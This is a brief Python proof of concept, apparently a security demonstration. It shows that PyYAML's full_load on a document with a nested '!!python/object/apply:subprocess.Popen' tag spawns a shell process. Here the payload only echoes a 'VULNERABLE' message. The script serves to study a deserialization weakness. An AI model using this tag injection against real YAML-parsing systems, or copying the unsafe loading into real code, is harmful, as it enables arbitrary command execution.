import subprocess  # imported by the application

import yaml

document = """
config:
  timeout: 10
  hook: !!python/object/apply:subprocess.Popen
    args: [["sh", "-c", "echo VULNERABLE: a nested tag started a process"]]
"""
loaded = yaml.full_load(document)
loaded["config"]["hook"].wait()
